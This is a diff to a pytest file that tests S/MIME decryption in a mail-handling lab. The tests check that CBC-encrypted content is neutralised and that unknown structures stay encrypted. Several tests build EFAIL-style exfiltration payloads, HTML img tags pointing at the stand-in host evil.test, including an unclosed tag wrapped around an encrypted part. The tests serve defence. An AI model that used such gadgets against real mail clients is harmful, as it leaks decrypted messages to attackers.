@@ -3,10 +3,11 @@ What comes in as S/MIME, made by OpenSSL, is decrypted for those whose key it is
 """
 
 import base64
+import email
 from collections.abc import Iterator
 
 import pytest
-from lab.letter import canary, letter, multipart
+from lab.letter import canary, letter, multipart, part
 from lab.place import short_folder
 from lab.sink import Received
 from lab.smime import Smime
@@ -73,6 +74,50 @@ def test_decrypted(the_town: Town, smime: Smime, options: tuple[str, ...], whom:
     assert "unauthenticated" in result(got)
 
 
+@pytest.mark.parametrize("options", [("-aes256",), ("-aes128", "-stream"), ("-aes192", "-keyid")])
+def test_unproved_content(the_town: Town, smime: Smime, options: tuple[str, ...]) -> None:
+    """Content in CBC arrives in clear and harmless: text stays, and nothing in it or beside it can send it."""
+    word = canary()
+    html = f'<p>{word}</p><img src="http://evil.test/{word}">'.encode()
+    line, body = multipart("mixed", part(html, "text/html"), part(html, "image/svg+xml"))
+    cms = smime.encrypt(line.encode() + b"\r\n\r\n" + body, DOC, options=options)
+    got = arrived(the_town, enclosed(cms, "enveloped-data"), DOC)[DOC]
+    first, second = email.message_from_bytes(got.data).get_payload()
+
+    assert first.get_payload(decode=True) == f"<p>{word}</p>".encode()
+    assert (second.get_content_type(), second.get_content_disposition()) == (
+        "application/octet-stream",
+        "attachment",
+    )
+    assert "decrypted=smime; signed=none;" in result(got)
+    assert "unauthenticated,neutralised" in result(got)
+
+
+@pytest.mark.parametrize("options", [(), ("-stream",)])
+def test_signed_inside_unproved_content(the_town: Town, smime: Smime, options: tuple[str, ...]) -> None:
+    """Of a message signed and then encrypted in CBC the signed text arrives, called unsigned."""
+    opaque = part(
+        smime.sign(entity(word := canary()), NOT_OURS, *options), "application/pkcs7-mime; smime-type=signed-data"
+    )
+    cms = smime.encrypt(opaque, DOC, options=("-aes256",))
+    got = arrived(the_town, enclosed(cms, "enveloped-data"), DOC)[DOC]
+
+    assert got.body == entity(word).partition(b"\r\n\r\n")[2]
+    assert "signed=none" in result(got)
+
+
+def test_what_cannot_be_made_harmless(the_town: Town, smime: Smime) -> None:
+    """Content in CBC with a structure that is not understood stays encrypted; triple DES does, unless allowed."""
+    word = canary()
+    line, body = multipart("x-mixed-replace", part(word.encode(), "text/html"))
+    strange = smime.encrypt(line.encode() + b"\r\n\r\n" + body, DOC, options=("-aes256",))
+    for cms in (strange, smime.encrypt(entity(word), DOC, options=("-des3",))):
+        message = enclosed(cms, "enveloped-data")
+        got = arrived(the_town, message, DOC)[DOC]
+        assert got.body == message.partition(b"\r\n\r\n")[2]
+        assert "undecryptable" in result(got)
+
+
 def test_only_for_whom_a_key_fits(the_town: Town, smime: Smime) -> None:
     """Of two recipients, the one whose key it is gets it opened; the other gets what came, flagged."""
     message = enclosed(smime.encrypt(entity(word := canary()), DOC))
@@ -106,8 +151,8 @@ def test_only_the_outermost_entity(the_town: Town, smime: Smime) -> None:
     """An encrypted part beside foreign HTML is left alone (direct exfiltration)."""
     word = canary()
     inner = enclosed(smime.encrypt(entity(word), DOC))
-    part = inner[inner.index(b"Content-Type:") :]
-    line, body = multipart("mixed", b'Content-Type: text/html\r\n\r\n<img src="http://evil.test/', part)
+    encrypted = inner[inner.index(b"Content-Type:") :]
+    line, body = multipart("mixed", b'Content-Type: text/html\r\n\r\n<img src="http://evil.test/', encrypted)
     message = letter(body, sender=KIM, to=DOC, fields=["MIME-Version: 1.0", line])
     got = arrived(the_town, message, DOC)[DOC]
 
